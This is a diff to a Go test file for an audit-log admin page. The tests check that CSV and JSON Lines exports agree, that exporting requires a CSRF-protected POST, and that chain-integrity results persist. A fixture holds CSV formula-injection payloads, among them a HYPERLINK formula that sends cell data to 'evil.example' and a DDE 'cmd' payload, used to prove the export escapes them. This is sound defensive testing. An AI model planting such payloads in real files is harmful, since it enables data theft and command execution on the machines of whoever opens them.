@@ -7,6 +7,8 @@ import (
 	"encoding/json"
 	"net/http"
 	"net/url"
+	"reflect"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -67,8 +69,53 @@ func TestAuditLogPageFiltersAndDetail(t *testing.T) {
 	}
 }
 
+// csvFormulaEvent is a call whose caller-controlled fields each start
+// with a character a spreadsheet would read as a formula, or with the
+// quote that escapes them.
+func csvFormulaEvent() *models.AuditEvent {
+	return &models.AuditEvent{
+		At: time.Now(), Kind: models.AuditKindMCP, HTTPMethod: "POST", MCPMethod: "tools/call", Decision: models.AuditAllow,
+		Tool:           `=HYPERLINK("https://evil.example/?"&A1)`,
+		ClientID:       "+cmd|' /C calc'!A0",
+		Arguments:      "-1.5", // JSON, as arguments must be (a negative integer would stay a number)
+		ServiceAccount: "@SUM(1,1)",
+		RequestID:      "\t=1+1",
+		SourceIP:       "\r=1+1",
+		RouteName:      "'=1+1",
+	}
+}
+
+// csvFormulaColumns are the columns csvFormulaEvent sets.
+var csvFormulaColumns = []string{"tool", "client_id", "arguments", "service_account", "request_id", "source_ip", "route_name"}
+
+// unescapeCSVCell undoes the export's formula escape, as the README tells
+// readers to: one leading quote off a cell that starts with one.
+func unescapeCSVCell(s string) string {
+	return strings.TrimPrefix(s, "'")
+}
+
+// exportAudit posts the audit log's Export form, as its buttons do, and
+// returns the download.
+func exportAudit(t *testing.T, admin *browser, filter url.Values, format string) string {
+	t.Helper()
+	form := url.Values{}
+	for k, v := range filter {
+		form[k] = v
+	}
+	form.Set("format", format)
+	resp, body := admin.post("/admin/audit/export", form)
+	if resp.StatusCode != http.StatusOK || !strings.Contains(resp.Header.Get("Content-Disposition"), "attachment") {
+		t.Fatalf("export %s: %d %v", format, resp.StatusCode, resp.Header)
+	}
+	return body
+}
+
 func TestAuditExportsParseBackToTheSameRows(t *testing.T) {
-	_, admin := auditWorld(t)
+	w, admin := auditWorld(t)
+	formula := csvFormulaEvent()
+	if err := w.app.Store.AppendAuditEvents(context.Background(), "fixture", []*models.AuditEvent{formula}); err != nil {
+		t.Fatal(err)
+	}
 	filter := url.Values{"range": {"1h"}, "method": {"tools/call"}}
 	_, body := admin.get("/admin/audit?" + filter.Encode())
 	var pageIDs []string
@@ -76,47 +123,114 @@ func TestAuditExportsParseBackToTheSameRows(t *testing.T) {
 		id, _ := s.Attr("data-audit-id")
 		pageIDs = append(pageIDs, id)
 	})
-	if len(pageIDs) == 0 {
-		t.Fatal("no rows to export")
+	if len(pageIDs) < 4 {
+		t.Fatalf("%d rows to export, want alice's 3 calls and the fixture's", len(pageIDs))
 	}
 
-	get := func(format string) string {
-		f := url.Values{}
-		for k, v := range filter {
-			f[k] = v
-		}
-		f.Set("format", format)
-		req, _ := http.NewRequest(http.MethodGet, admin.app.URL+"/admin/audit/export?"+f.Encode(), nil)
-		resp, body := admin.do(req)
-		if resp.StatusCode != http.StatusOK || !strings.Contains(resp.Header.Get("Content-Disposition"), "attachment") {
-			t.Fatalf("export %s: %d %v", format, resp.StatusCode, resp.Header)
-		}
-		return body
-	}
-	records, err := csv.NewReader(strings.NewReader(get("csv"))).ReadAll()
+	records, err := csv.NewReader(strings.NewReader(exportAudit(t, admin, filter, "csv"))).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
-	var csvIDs []string
-	for _, r := range records[1:] {
-		csvIDs = append(csvIDs, r[0])
+	col := map[string]int{}
+	for i, name := range records[0] {
+		col[name] = i
 	}
-	var jsonIDs []string
-	sc := bufio.NewScanner(strings.NewReader(get("jsonl")))
+	var events []models.AuditEvent
+	sc := bufio.NewScanner(strings.NewReader(exportAudit(t, admin, filter, "jsonl")))
 	for sc.Scan() {
 		var e models.AuditEvent
 		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
 			t.Fatalf("JSON line %q: %v", sc.Text(), err)
 		}
-		jsonIDs = append(jsonIDs, strconv.FormatUint(e.ID, 10))
+		events = append(events, e)
+	}
+	if len(events) != len(records)-1 {
+		t.Fatalf("CSV has %d rows, JSON Lines %d", len(records)-1, len(events))
+	}
+	// The same rows, the page's, and in every column both spell, the same
+	// values once the CSV's escape is undone.
+	fields := map[string]func(e *models.AuditEvent) string{
+		"id":   func(e *models.AuditEvent) string { return strconv.FormatUint(e.ID, 10) },
+		"kind": func(e *models.AuditEvent) string { return e.Kind }, "request_id": func(e *models.AuditEvent) string { return e.RequestID },
+		"user_email": func(e *models.AuditEvent) string { return e.UserEmail }, "service_account": func(e *models.AuditEvent) string { return e.ServiceAccount },
+		"client_id": func(e *models.AuditEvent) string { return e.ClientID }, "route_name": func(e *models.AuditEvent) string { return e.RouteName },
+		"mcp_method": func(e *models.AuditEvent) string { return e.MCPMethod }, "tool": func(e *models.AuditEvent) string { return e.Tool },
+		"arguments": func(e *models.AuditEvent) string { return e.Arguments }, "decision": func(e *models.AuditEvent) string { return e.Decision },
+		"reasons": func(e *models.AuditEvent) string { return e.Reasons }, "source_ip": func(e *models.AuditEvent) string { return e.SourceIP },
+		"hash": func(e *models.AuditEvent) string { return e.Hash },
+	}
+	var csvIDs, jsonIDs []string
+	for i, rec := range records[1:] {
+		e := &events[i]
+		csvIDs, jsonIDs = append(csvIDs, rec[col["id"]]), append(jsonIDs, strconv.FormatUint(e.ID, 10))
+		for name, field := range fields {
+			if got, want := unescapeCSVCell(rec[col[name]]), field(e); got != want {
+				t.Errorf("event %d's %s: CSV %q (read back %q), JSON Lines %q", e.ID, name, rec[col[name]], got, want)
+			}
+		}
 	}
 	if strings.Join(csvIDs, ",") != strings.Join(pageIDs, ",") || strings.Join(jsonIDs, ",") != strings.Join(pageIDs, ",") {
 		t.Fatalf("page %v, CSV %v, JSON Lines %v: want the same rows", pageIDs, csvIDs, jsonIDs)
+	}
+	// The fixture's cells are escaped in the CSV, and raw in JSON Lines.
+	i := slices.Index(csvIDs, strconv.FormatUint(formula.ID, 10))
+	if i < 0 {
+		t.Fatalf("the fixture event #%d is not in the export", formula.ID)
+	}
+	for _, name := range csvFormulaColumns {
+		if cell, raw := records[1+i][col[name]], fields[name](&events[i]); cell != "'"+raw || raw != fields[name](formula) {
+			t.Errorf("%s: CSV cell %q, JSON Lines %q; want the value %q, quoted in the CSV only", name, cell, raw, fields[name](formula))
+		}
 	}
 	// The export is itself recorded.
 	_, body = admin.get("/admin/audit?" + url.Values{"range": {"1h"}, "kind": {"export"}}.Encode())
 	if n := doc(t, body).Find(`tbody tr[data-audit-id]`).Length(); n != 2 {
 		t.Errorf("%d export events, want 2", n)
+	}
+}
+
+// Exporting records an audit event, so it is a POST with the CSRF token:
+// a GET, or a POST from another site or without the token, exports
+// nothing and records nothing.
+func TestAuditExportNeedsAPostWithCSRF(t *testing.T) {
+	_, admin := auditWorld(t)
+	q := url.Values{"range": {"1h"}, "format": {"csv"}}
+	// Not 405: GET /admin/audit/:id answers it, and "export" is no event.
+	if resp, body := admin.get("/admin/audit/export?" + q.Encode()); resp.StatusCode != http.StatusNotFound {
+		t.Errorf("GET export: %d, want 404: %.200s", resp.StatusCode, body)
+	}
+	if resp, _ := admin.post("/admin/audit/export", url.Values{"_csrf": {"forged"}, "format": {"csv"}}); resp.StatusCode != http.StatusForbidden {
+		t.Errorf("export without the CSRF token: %d, want 403", resp.StatusCode)
+	}
+	req, _ := http.NewRequest(http.MethodPost, admin.app.URL+"/admin/audit/export", strings.NewReader(url.Values{"_csrf": {admin.csrf()}, "format": {"csv"}}.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("Sec-Fetch-Site", "cross-site")
+	if resp, _ := admin.do(req); resp.StatusCode != http.StatusForbidden {
+		t.Errorf("export from another site: %d, want 403", resp.StatusCode)
+	}
+	// The filter is the form's: one in the URL is not read.
+	if resp, _ := admin.post("/admin/audit/export?format=csv", url.Values{}); resp.StatusCode != http.StatusBadRequest {
+		t.Errorf("export with its format in the URL only: %d, want 400", resp.StatusCode)
+	}
+	_, body := admin.get("/admin/audit?" + url.Values{"range": {"1h"}, "kind": {"export"}}.Encode())
+	if n := doc(t, body).Find(`tbody tr[data-audit-id]`).Length(); n != 0 {
+		t.Errorf("%d export events recorded by refused exports", n)
+	}
+	// The page's Export form posts there, with the filters in force.
+	_, body = admin.get("/admin/audit?" + url.Values{"range": {"7d"}, "tool": {"who"}}.Encode())
+	form := doc(t, body).Find(`form[data-testid="audit-exports"]`)
+	if form.AttrOr("method", "") != "post" || form.AttrOr("action", "") != "/admin/audit/export" {
+		t.Fatalf("the export form: method %q action %q", form.AttrOr("method", ""), form.AttrOr("action", ""))
+	}
+	got := url.Values{}
+	form.Find(`input[type="hidden"]`).Each(func(_ int, in *goquery.Selection) {
+		got.Add(in.AttrOr("name", ""), in.AttrOr("value", ""))
+	})
+	if got.Get("range") != "7d" || got.Get("tool") != "who" || got.Get("_csrf") == "" {
+		t.Errorf("the export form carries %v", got)
+	}
+	if resp, _ := admin.post("/admin/audit/export", url.Values{"range": {"7d"}, "tool": {"who"}, "_csrf": {got.Get("_csrf")}, "format": {"jsonl"}}); resp.StatusCode != http.StatusOK {
+		t.Errorf("the form, submitted: %d", resp.StatusCode)
 	}
 }
 
@@ -200,7 +314,9 @@ func TestAuditorRole(t *testing.T) {
 }
 
 // A chain that starts from a checkpoint while retention is off had its
-// old events removed by something other than retention: Verify says so.
+// old events removed by something other than retention: Verify says so,
+// in a flash and in the Integrity table, which shows what it found in
+// each chain until the next run, reloads included.
 func TestVerifyFlagsACheckpointWithRetentionOff(t *testing.T) {
 	app := newTestApp(t)
 	ctx := context.Background()
@@ -213,6 +329,10 @@ func TestVerifyFlagsACheckpointWithRetentionOff(t *testing.T) {
 	}
 	if n, err := app.Store.DeleteAuditEventsBefore(ctx, time.Now().Add(-24*time.Hour), 10); err != nil || n != 1 {
 		t.Fatalf("deleted %d, %v", n, err)
+	}
+	intact := []*models.AuditEvent{{At: time.Now(), Kind: models.AuditKindSignIn, Decision: models.AuditAllow, Reasons: "[]"}}
+	if err := app.Store.AppendAuditEvents(ctx, "intact", intact); err != nil {
+		t.Fatal(err)
 	}
 	app.user(t, "root@example.com", true)
 	admin := app.browser(t)
@@ -227,5 +347,32 @@ func TestVerifyFlagsACheckpointWithRetentionOff(t *testing.T) {
 	last, err := app.Store.LastAuditVerification(ctx)
 	if err != nil || last.OK {
 		t.Fatalf("recorded verification %+v, %v; want not OK", last, err)
+	}
+	// After the flash is gone, the table still says which chain and why.
+	for range 2 {
+		_, body = admin.get("/admin/audit")
+		page := doc(t, body)
+		if n := page.Find(`[data-testid="flash"]`).Length(); n != 0 {
+			t.Errorf("%d flashes on a reload", n)
+		}
+		rows := map[string]string{}
+		page.Find(`[data-testid="chain-row"]`).Each(func(_ int, r *goquery.Selection) {
+			rows[strings.TrimSpace(r.Find(".chain-writer").Text())] = r.AttrOr("data-ok", "") + ": " + strings.TrimSpace(r.Find(`[data-testid="chain-problem"]`).Text())
+		})
+		want := map[string]string{
+			"intact":   "true: ",
+			"tampered": "false: starts from a retention checkpoint (seq 1), but retention is off: its older events were deleted by something else",
+		}
+		for w := range rows {
+			if _, ok := want[w]; !ok {
+				want[w] = "true: " // the server's own writer, which recorded the sign-in
+			}
+		}
+		if !reflect.DeepEqual(rows, want) {
+			t.Errorf("chains after a reload = %q, want %q", rows, want)
+		}
+		if got := strings.TrimSpace(page.Find(`[data-testid="verified-result"]`).Text()); got != "broken" {
+			t.Errorf("last verification reads %q, want broken", got)
+		}
 	}
 }
